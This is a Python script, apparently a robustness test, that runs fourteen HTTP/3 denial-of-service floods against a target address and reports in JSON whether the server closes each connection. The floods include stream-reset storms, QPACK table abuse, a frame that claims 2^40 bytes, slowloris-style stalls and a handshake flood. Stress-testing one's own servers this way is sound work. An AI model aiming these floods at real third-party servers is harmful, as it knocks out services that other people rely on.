"""Floods over HTTP/3 by aioquic: `h3_floods.py 127.0.0.1:443 name [SECONDS [NAME]]`. Prints JSON: how each ended.

Every flood runs on four connections at once for at most SECONDS (3). `closed CODE` is the other end's word (RFC 9114 §8.1,
RFC 9204 §6), `open` that it put up with it.
"""

import asyncio
import json
import ssl
import sys

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import H3_ALPN, FrameType, H3Connection, encode_frame
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated

CONNECTIONS = 4


class Attacker(QuicConnectionProtocol):
    def __init__(self, *arguments, **options):
        super().__init__(*arguments, **options)
        self.http = H3Connection(self._quic)
        self.ended = None
        self.name = ""

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.ended = f"closed {event.error_code:#x}"

    def head(self, path="/slow", method="GET", more=()):
        headers = [(":method", method), (":scheme", "https"), (":authority", self.name), (":path", path), *more]
        return [(name.encode(), value.encode()) for name, value in headers]

    def open(self, end=True, **head):
        stream = self._quic.get_next_available_stream_id()
        self.http.send_headers(stream, self.head(**head), end_stream=end)
        return stream

    async def rest(self):
        """Sends what was written and lets the other end answer."""
        self.transmit()
        await asyncio.sleep(0.001)


async def stream_resets(peer):
    while True:
        for _ in range(20):
            peer._quic.reset_stream(peer.open(end=False), 0x10C)
        await peer.rest()


async def stop_sending(peer):
    while True:
        for _ in range(20):
            peer._quic.stop_stream(peer.open(), 0x10C)
        await peer.rest()


async def large_field_sections(peer):
    more = [(f"x-{number}", "v" * 1000) for number in range(200)]
    while True:
        peer.open(more=more)
        await peer.rest()


async def encoder_stream(peer):
    """Entries for a table whose capacity was announced as none."""
    insert = b"\x41x\x7f\x81\x3f" + b"y" * 8192
    while True:
        peer._quic.send_stream_data(peer.http._local_encoder_stream_id, insert)
        await peer.rest()


async def decoder_stream(peer):
    """Acknowledgements of sections that were never sent."""
    while True:
        peer._quic.send_stream_data(peer.http._local_decoder_stream_id, b"\x81" * 1000)
        await peer.rest()


async def settings_again(peer):
    frame = encode_frame(FrameType.SETTINGS, b"")
    while True:
        peer._quic.send_stream_data(peer.http._local_control_stream_id, frame * 100)
        await peer.rest()


async def unknown_frames(peer):
    frame = encode_frame(0x21, b"")
    while True:
        peer._quic.send_stream_data(peer.http._local_control_stream_id, frame * 500)
        await peer.rest()


async def frame_never_ending(peer):
    """A head said to have 2^40 bytes."""
    while True:
        stream = peer._quic.get_next_available_stream_id()
        peer._quic.send_stream_data(stream, encode_uint_var(FrameType.HEADERS) + encode_uint_var(1 << 40) + bytes(8000))
        await peer.rest()


async def empty_data(peer):
    stream = peer.open(end=False, method="POST", path="/upload")
    while True:
        peer._quic.send_stream_data(stream, encode_frame(FrameType.DATA, b"") * 1000)
        await peer.rest()


async def unidirectional_streams(peer):
    while True:
        stream = peer._quic.get_next_available_stream_id(is_unidirectional=True)
        peer._quic.send_stream_data(stream, encode_uint_var(0x21), end_stream=False)
        await peer.rest()


async def pings(peer):
    number = 0
    while True:
        number += 1
        peer._quic.send_ping(number)
        await peer.rest()


async def slow_heads(peer):
    """The first byte of a head on as many streams as are granted."""
    for _ in range(500):
        stream = peer._quic.get_next_available_stream_id()
        peer._quic.send_stream_data(stream, encode_uint_var(FrameType.HEADERS))
        await peer.rest()
    await asyncio.sleep(3600)


async def slow_bodies(peer):
    for _ in range(500):
        peer.open(end=False, method="POST", path="/upload", more=[("content-length", "1000")])
        await peer.rest()
    await asyncio.sleep(3600)


async def window_stall(peer):
    """Large answers into windows of a kilobyte."""
    for _ in range(100):
        peer.open(path="/large")
        await peer.rest()
    await asyncio.sleep(3600)


FLOODS = [
    stream_resets, stop_sending, large_field_sections, encoder_stream, decoder_stream, settings_again, unknown_frames,
    frame_never_ending, empty_data, unidirectional_streams, pings, slow_heads, slow_bodies, window_stall,
]


def configure(name, small=False):
    configuration = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=name)
    configuration.verify_mode = ssl.CERT_NONE
    if small:
        configuration.max_data = configuration.max_stream_data = 1024
    return configuration


async def attack(flood, address, name, seconds):
    if flood in (window_stall, slow_heads, slow_bodies):
        # These wait for a limit of the server to bite, which a busy machine delays.
        seconds *= 4
    host, port = address.rsplit(":", 1)
    configuration = configure(name, small=flood is window_stall)
    try:
        async with connect(host, int(port), configuration=configuration, create_protocol=Attacker) as peer:
            peer.name = name

            async def until_closed():
                while peer.ended is None:
                    await asyncio.sleep(0.02)

            waits = [asyncio.ensure_future(flood(peer)), asyncio.ensure_future(until_closed())]
            await asyncio.wait(waits, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
            for wait in waits:
                wait.cancel()
            return peer.ended or "open"
    except (ConnectionError, asyncio.TimeoutError) as error:
        return f"refused: {error}"


async def handshakes(address, name, seconds):
    """Connections and nothing else, as fast as they can be made."""
    host, port = address.rsplit(":", 1)
    made, until = 0, asyncio.get_running_loop().time() + seconds
    while asyncio.get_running_loop().time() < until:
        async with connect(host, int(port), configuration=configure(name)):
            made += 1
    return "open" if made else "none made"


async def main(address, name, seconds="3", only=""):
    report, seconds = {}, float(seconds)
    for flood in FLOODS:
        if only in flood.__name__:
            attacks = [attack(flood, address, name, seconds) for _ in range(CONNECTIONS)]
            report[flood.__name__] = await asyncio.gather(*attacks)
    if only in "handshakes":
        report["handshakes"] = await asyncio.gather(*[handshakes(address, name, seconds) for _ in range(CONNECTIONS)])
    print(json.dumps(report))


asyncio.run(main(*sys.argv[1:]))
